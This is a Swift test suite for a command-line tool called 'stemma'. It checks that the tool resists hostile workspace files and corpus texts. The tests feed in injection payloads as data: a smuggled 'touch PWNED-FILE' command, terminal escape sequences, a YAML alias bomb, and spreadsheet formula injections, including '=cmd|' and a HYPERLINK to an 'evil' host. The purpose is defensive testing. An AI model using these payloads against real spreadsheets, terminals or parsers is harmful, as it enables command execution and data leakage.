import Foundation
import GRDB
import TestSupport
import Testing

/// Texts and settings of a workspace from elsewhere: what they say stays what they say.
@Suite(.serialized, .tags(.program)) struct ForeignWorkspaceTests {
  /// A message holds one line, whatever `stemma.yaml` puts into it.
  @Test(arguments: [#""nothing\ntouch PWNED-FILE #""#, #""a\r\e[2Jb""#, #""a\u2028b\u0085c""#])
  func messagesStayOneLine(corpus: String) throws {
    let world = try FaultWorld()
    let file = URL(filePath: world.workspace + "/stemma.yaml")
    let text = try String(contentsOf: file, encoding: .utf8)
    let line = try #require(text.split(separator: "\n").first { $0.hasPrefix("corpus:") })
    try Data(text.replacingOccurrences(of: line, with: "corpus: \(corpus)").utf8).write(to: file)
    let refused = try Program.run("compute", world.workspace)
    #expect(refused.status == 1)
    #expect(refused.errors.split(whereSeparator: \.isNewline).count == 1, "\(refused.errors)")
    #expect(!refused.errors.dropLast().contains { $0.isNewline || $0 == "\u{1B}" })
  }

  @Test(arguments: ["--bogus\u{1B}]0;x\u{07}", "--bo\ngus: y", "--bogus\u{9B}31m"])
  func wrongUsageCommandsNothing(argument: String) throws {
    let refused = try Program.run("status", argument)
    #expect(refused.status == 2)
    let first = refused.errors.split(separator: "\n", omittingEmptySubsequences: false)[0]
    #expect(first.contains("bo") && first.contains("gus"), "\(refused.errors)")
    #expect(
      !refused.errors.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{9B}" || $0 == "\u{07}" }
    )
  }

  @Test func anAliasBehindABlockIsRefusedAtOnce() throws {
    let world = try FaultWorld()
    let rows = (0..<10).map { level in
      let inner = level == 0 ? "z" : "*a\(level - 1)"
      return "a\(level): &a\(level) [" + Array(repeating: inner, count: 10).joined(separator: ",")
        + "]"
    }
    let text = "types:\n  x: |\n    \"\n" + rows.joined(separator: "\n") + "\n? *a9\n: 1\n"
    try Data(text.utf8).write(to: URL(filePath: world.workspace + "/stemma.yaml"))
    let refused = try Program.shell("exec timeout 60 \"$0\" status \"$1\"", world.workspace)
    #expect(refused.status == 1)
    #expect(refused.errors.contains("stemma.yaml:4: YAML anchors"), "\(refused.errors)")
  }

  @Test func patternsThatVisitTheMachineAreRefused() throws {
    let world = try FaultWorld()
    let file = URL(filePath: world.workspace + "/stemma.yaml")
    let text = try String(contentsOf: file, encoding: .utf8)
    // The list below the corpus's line goes with it.
    let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
    let start = try #require(lines.firstIndex { $0.hasPrefix("corpus:") })
    let end = lines[(start + 1)...].firstIndex { !$0.hasPrefix("  - ") } ?? lines.endIndex
    let changed = lines[..<start] + ["corpus: \"/proc/*/*/*/*/*/*/*\""] + lines[end...]
    try Data(changed.joined(separator: "\n").utf8).write(to: file)
    let refused = try Program.shell("exec timeout 300 \"$0\" compute \"$1\"", world.workspace)
    #expect(refused.status == 1, "\(refused.errors)")
    #expect(
      refused.errors.contains("files and folders") || refused.errors.contains("matches no file"))
  }

  /// Runs carry who computed them; another installation says so and goes on.
  @Test func resultsFromElsewhereSayThatTheyAre() throws {
    let world = try FaultWorld()
    let done = try Program.shell(
      """
      set -e; cd "$1"; unset XDG_STATE_HOME; export HOME="$PWD/../one"; mkdir -p ../one ../two
      "$0" compute . --threads 2 2>/dev/null; "$0" status . 2>../own >/dev/null
      export HOME="$PWD/../two"
      "$0" status . 2>../foreign >../text; "$0" trust . >/dev/null; "$0" status . 2>../accepted >/dev/null
      mv ../work ../other; mkdir ../work; cp -r ../other/. ../work; cd ../work
      "$0" status . 2>../copied >/dev/null
      """, world.workspace)
    #expect(done.status == 0, "\(done.errors)")
    func said(_ name: String) throws -> String {
      try String(contentsOfFile: world.folder.path + "/" + name, encoding: .utf8)
    }
    #expect(try said("own").isEmpty)
    let note = try said("foreign")
    #expect(note.hasPrefix("note: ") && note.contains("stemma trust"), "\(note)")
    #expect(note.split(separator: "\n").count == 1)
    #expect(try !said("text").isEmpty)
    #expect(try said("accepted").isEmpty)
    // Another folder in its place is another workspace.
    #expect(try said("copied").hasPrefix("note: "))
    let name = try FileManager.default.attributesOfItem(
      atPath: world.folder.path + "/one/.local/state/stemma/installation")
    #expect(name[.posixPermissions] as? Int == 0o600)
  }

  /// Before an engine reads what lies outside a workspace of somebody else's, the person is asked, once.
  @Test func inputsOutsideAreAskedAbout() throws {
    let world = try FaultWorld()
    let line = """
      cd "$1"; unset XDG_STATE_HOME; export HOME="$PWD/../one" TERM=xterm-256color; mkdir -p ../one
      mkfifo ../keys; exec 3<>../keys
      run() {
        script -qefc "stty rows 30 cols 100; exec '$0' explore '$1' --fresh" "$2" <&3 >/dev/null &
        while kill -0 $! 2>/dev/null && ! grep -qs "$3" "$2"; do sleep 0.1; done
      }
      run "$1" ../first 'y/N'; printf 'n\\n' >&3
      while kill -0 $! 2>/dev/null && ! grep -qs 'Jobs' ../first; do sleep 0.1; done
      printf Q >&3; wait $!
      [ ! -e .stemma/engine.log ] || exit 97
      run "$1" ../second 'y/N'; printf 'y\\n' >&3
      while kill -0 $! 2>/dev/null && [ ! -e .stemma/engine.log ]; do sleep 0.1; done
      printf Q >&3; wait $!
      run "$1" ../third 'Jobs'; printf Q >&3; wait $!
      ! grep -q 'y/N' ../third
      """
    let done = try Program.shell(
      "exec timeout 200 bash -c '\(line.replacingOccurrences(of: "'", with: "'\\''"))' \"$0\" \"$1\"",
      world.workspace)
    #expect(done.status == 0, "\(done.text) \(done.errors)")
  }

  /// Links in folders that a workspace names lead out of it as paths do.
  @Test func inputsBehindLinksLieOutsideToo() throws {
    let golden = try Golden("llama")
    let world = try FaultWorld()
    let done = try Program.shell(
      """
      set -e; cd "$1"; export HOME="$PWD/../home"; unset XDG_STATE_HOME; mkdir -p ../home data texts checkpoint asked
      ln -s "$PWD/../corpus.jsonl" data/private.jsonl; cp ../corpus.jsonl data/own.jsonl
      cp ../corpus.jsonl ../secret.txt; ln -s ../../secret.txt texts/a.txt; echo text > texts/b.txt
      cp '\(golden.checkpoint)'/* checkpoint; mv checkpoint/tokenizer.json ../t.json
      ln -s ../../t.json checkpoint/tokenizer.json
      ln -s '\(golden.questions)' asked/q.jsonl
      mkdir early ../late; cp checkpoint/config.json early; ln -s ../../t.json early/tokenizer.json
      printf 'checkpoint: checkpoint\\ncheckpoints: [early, ../late]\\ncorpus: ["data/*.jsonl", texts]\\nquestions: asked\\n' > stemma.yaml
      exec "$0" trust .
      """, world.workspace)
    #expect(done.status == 0, "\(done.errors)")
    let lines = done.text.split(separator: "\n").filter { $0.contains("it reads") }
    for name in [
      "data/private.jsonl", "texts/a.txt", "checkpoint/tokenizer.json", "asked/q.jsonl",
      "early/tokenizer.json", "/late",
    ] {
      #expect(lines.contains { $0.hasSuffix(name) }, "\(name): \(done.text)")
    }
    #expect(lines.count == 6, "\(done.text)")
  }

  @Test func homeThatIsNotSetIsOneSentence() throws {
    let done = try Program.shell("unset HOME XDG_CONFIG_HOME XDG_STATE_HOME; exec \"$0\" paths", "")
    #expect(done.status == 0, "\(done.errors)")
    let lines = done.errors.split(separator: "\n").filter { $0.contains("HOME") }
    #expect(lines.count == 1, "\(done.errors)")
    #expect(!done.text.contains(" //."), "\(done.text)")
  }

  /// Documents, ids and types of a corpus that a spreadsheet or a terminal would take for commands.
  @Test func textsOfACorpusAreInert() throws {
    let world = try FaultWorld()
    let corpus = world.folder.path + "/corpus.jsonl"
    let evil =
      "=HYPERLINK(\\\"http://evil/\\\"&A1) \\u001b]0;x\\u0007 \\u009d\\u202e <script> ![x](http://evil/x.png)"
    let line = #"{"id": "=cmd|'/C calc'!A0", "type": "+code", "text": "\#(evil)"}"#
    let text = try String(contentsOfFile: corpus, encoding: .utf8)
    try Data((line + "\n" + text).utf8).write(to: URL(filePath: corpus))
    let done = try Program.shell(
      """
      "$0" compute "$1" --threads 2 2>/dev/null || exit 1
      "$0" top "$1" q-00 --limit 100 --csv > "$1/../top.csv" && "$0" top "$1" q-00 --limit 100 --json > "$1/../top.json" || exit 2
      script -qefc "exec '$0' top '$1' q-00 --limit 100 --csv" "$1/../seen" > /dev/null || exit 3
      """, world.workspace)
    #expect(done.status == 0, "\(done.errors)")
    func read(_ name: String) throws -> String {
      try String(contentsOfFile: world.folder.path + "/" + name, encoding: .utf8)
    }
    let csv = try read("top.csv")
    #expect(
      csv.contains("'=cmd|") && csv.contains(",'+code,") && csv.contains("\"'=HYPERLINK"),
      "\(csv.prefix(400))")
    let json = try read("top.json")
    #expect(json.contains("\\u009d") && json.contains("\\u202e"))
    for seen in [json, try read("seen")] {
      #expect(
        !seen.unicodeScalars.contains {
          $0 == "\u{1B}" || $0 == "\u{9D}" || $0 == "\u{202E}" || $0 == "\u{07}"
        })
    }
  }
}
